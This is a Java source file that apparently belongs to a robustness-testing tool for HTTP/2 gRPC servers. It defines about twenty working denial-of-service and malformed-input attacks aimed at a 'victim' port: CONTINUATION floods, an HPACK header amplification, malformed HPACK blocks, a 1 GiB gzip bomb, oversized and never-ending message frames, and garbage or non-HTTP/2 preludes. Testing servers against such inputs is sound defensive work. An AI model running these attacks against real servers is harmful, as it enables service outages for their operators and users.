package io.ennead.cli.attack;

import static io.ennead.cli.attack.RawHttp2.CONTINUATION;
import static io.ennead.cli.attack.RawHttp2.DATA;
import static io.ennead.cli.attack.RawHttp2.END_HEADERS;
import static io.ennead.cli.attack.RawHttp2.END_STREAM;
import static io.ennead.cli.attack.RawHttp2.HEADERS;
import static io.ennead.cli.attack.RawHttp2.PREFACE;
import static io.ennead.cli.attack.RawHttp2.frameBytes;
import static io.ennead.cli.attack.RawHttp2.message;
import static io.ennead.cli.attack.RawHttp2.prefixed;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;

import io.ennead.cli.attack.Attack.Victim;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.BiConsumer;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

/** Attacks by headers, messages and bytes that are no HTTP/2. */
final class MessageAttacks {
  private static final int FRAME = 16_384;
  private static final int GIB = 1 << 30;

  /** RFC 7541: an indexed field of the dynamic table's first entry. */
  private static final byte NEWEST_ENTRY = (byte) 0xbe;

  private final byte[] bomb = zeros(GIB);

  static Stream<Attack> all() {
    MessageAttacks attacks = new MessageAttacks();
    return Stream.of(
        after("continuation flood", (http2, v) -> attacks.continuation(http2, v, 200, FRAME)),
        after("empty continuation flood", (http2, v) -> attacks.continuation(http2, v, 5000, 0)),
        after("9 KiB of metadata", (http2, v) -> longHeader(http2, v)),
        after("headers by reference", MessageAttacks::references),
        after("header blocks of no sense", MessageAttacks::senselessHeaders),
        after("calls of no sense", MessageAttacks::senselessCalls),
        after("1 GiB in 1 MiB of gzip", (http2, v) -> attacks.gzip(http2, v)),
        after("compressed by nothing", (http2, v) -> data(http2, v, prefixed(1, 9, new byte[9]))),
        after("4 GiB announced", (http2, v) -> data(http2, v, prefixed(0, -1, new byte[1000]))),
        after("63 MiB announced", (http2, v) -> data(http2, v, prefixed(0, 63 << 20, new byte[9]))),
        after("byte by byte", MessageAttacks::byteByByte),
        after("no protobuf", MessageAttacks::noProtobuf),
        after(
            "frame cut off", (http2, v) -> http2.send(frameBytes(HEADERS, 4, 1, 99, new byte[9]))),
        after(
            "frame of 16 MiB", (http2, v) -> http2.send(frameBytes(0, 0, 1, -1, new byte[FRAME]))),
        after("garbage frames", (http2, v) -> http2.send(garbage(v, 0, 1 << 16))),
        before("garbage", (http2, v) -> http2.send(garbage(v, 0, 1 << 16))),
        before("nothing sent", (http2, v) -> {}),
        before("half a preface", (http2, v) -> http2.send(Arrays.copyOf(PREFACE, 12))),
        before("preface alone", (http2, v) -> http2.send(PREFACE)),
        before("HTTP/1.1", (http2, v) -> http2.send(http1(v))),
        before("TLS", (http2, v) -> http2.send(clientHello())));
  }

  private static Attack before(String name, BiConsumer<RawHttp2, Victim> act) {
    return new Attack(
        name,
        victim -> {
          RawHttp2 http2 = RawHttp2.connect(victim.port());
          act.accept(http2, victim);
          return http2;
        });
  }

  private static Attack after(String name, BiConsumer<RawHttp2, Victim> act) {
    return new Attack(
        name,
        victim -> {
          RawHttp2 http2 = RawHttp2.open(victim.port());
          act.accept(http2, victim);
          return http2;
        });
  }

  private void continuation(RawHttp2 http2, Victim victim, int frames, int length) {
    http2.frame(HEADERS, 0, 1, http2.call(victim.method()));
    http2.flood(frames, CONTINUATION, 0, 1, new byte[length]);
  }

  private static void longHeader(RawHttp2 http2, Victim victim) {
    for (int i = 0; i < 10; i++) {
      http2.request(2 * i + 1, victim.method(), victim.message(), "x-long", "x".repeat(9 << 10));
    }
  }

  /** One field of 4 KB that the table remembers, then 12,000 times one byte that means it. */
  private static void references(RawHttp2 http2, Victim victim) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(http2.call(victim.method()));
    // With incremental indexing, a new name of one letter, a value of 4000 bytes.
    block.writeBytes(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0xa1, 0x1e});
    block.writeBytes("x".repeat(4000).getBytes(US_ASCII));
    byte[] references = new byte[12_000];
    Arrays.fill(references, NEWEST_ENTRY);
    block.writeBytes(references);
    http2.frame(HEADERS, END_HEADERS, 1, block.toByteArray());
  }

  private static void senselessHeaders(RawHttp2 http2, Victim victim) {
    List<int[]> blocks =
        List.of(
            new int[] {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f}, // index above 2^31
            new int[] {0x3f, 0xe1, 0xff, 0xff, 0xff, 0x07}, // a table of 2^31 bytes
            new int[] {0x40, 0x7f, 0xff, 0xff, 0xff, 0x7f}, // a name of 2^28 bytes
            new int[] {0x80}, // index 0
            new int[] {0x40, 0x81, 0xff, 0x81, 0xff}); // Huffman code of padding alone
    for (int[] block : blocks) {
      try (RawHttp2 own = RawHttp2.open(victim.port())) {
        own.frame(HEADERS, END_HEADERS, 1, bytes(block));
        own.start(3, victim.method());
      }
    }
  }

  private static byte[] bytes(int[] values) {
    byte[] bytes = new byte[values.length];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = (byte) values[i];
    }
    return bytes;
  }

  private static void senselessCalls(RawHttp2 http2, Victim victim) {
    List<String[]> headers =
        List.of(
            new String[] {":path", "no/method"},
            new String[] {":path", ""},
            new String[] {":path", "/" + "x".repeat(7000)},
            new String[] {":method", "GET"},
            new String[] {"content-type", "text/html"},
            new String[] {"grpc-timeout", "99999999999999H"},
            new String[] {"grpc-timeout", "-1S"},
            new String[] {"grpc-timeout", "0n"},
            new String[] {"grpc-encoding", "zip"},
            new String[] {"te", "chunked"},
            new String[] {"connection", "close"},
            new String[] {"X-Upper", "case"},
            new String[] {"x-bin", "no base 64!"},
            new String[] {"x", "\0\r\n"});
    int stream = 1;
    for (String[] header : headers) {
      http2.request(stream, victim.method(), victim.message(), header);
      stream += 2;
    }
  }

  private void gzip(RawHttp2 http2, Victim victim) {
    http2.start(1, victim.method(), "grpc-encoding", "gzip");
    byte[] bytes = prefixed(1, bomb.length, bomb);
    for (int from = 0; from < bytes.length && http2.socket().open(); from += FRAME) {
      int to = Math.min(bytes.length, from + FRAME);
      http2.frame(DATA, to == bytes.length ? 1 : 0, 1, Arrays.copyOfRange(bytes, from, to));
    }
  }

  /** Members of 1 MiB each, one after the other, are one gzip file. */
  private static byte[] zeros(int length) {
    ByteArrayOutputStream member = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(member)) {
      gzip.write(new byte[1 << 20]);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (int written = 0; written < length; written += 1 << 20) {
      all.writeBytes(member.toByteArray());
    }
    return all.toByteArray();
  }

  private static void data(RawHttp2 http2, Victim victim, byte[] data) {
    http2.start(1, victim.method(), "grpc-encoding", "gzip");
    http2.frame(DATA, 0, 1, data);
  }

  /** A message that never ends, one byte a frame. */
  private static void byteByByte(RawHttp2 http2, Victim victim) {
    data(http2, victim, prefixed(0, 1 << 20, new byte[0]));
    http2.flood(2000, DATA, 0, 1, new byte[1]);
  }

  private static void noProtobuf(RawHttp2 http2, Victim victim) {
    for (int i = 0; i < 10; i++) {
      http2.start(2 * i + 1, victim.method());
      http2.frame(DATA, END_STREAM, 2 * i + 1, message(garbage(victim, i, 300)));
    }
  }

  private static byte[] garbage(Victim victim, int number, int length) {
    byte[] bytes = new byte[length];
    new Random(victim.seed() + number).nextBytes(bytes);
    return bytes;
  }

  private static byte[] http1(Victim victim) {
    return "POST /%s HTTP/1.1\r\nHost: localhost\r\nUpgrade: h2c\r\nContent-Length: 5\r\n\r\n12345"
        .formatted(victim.method())
        .getBytes(US_ASCII);
  }

  private static byte[] clientHello() {
    return "\u0016\u0003\u0001\u0001\u0000\u0001\u0000\u0000\u00fc\u0003\u0003"
        .getBytes(ISO_8859_1);
  }
}
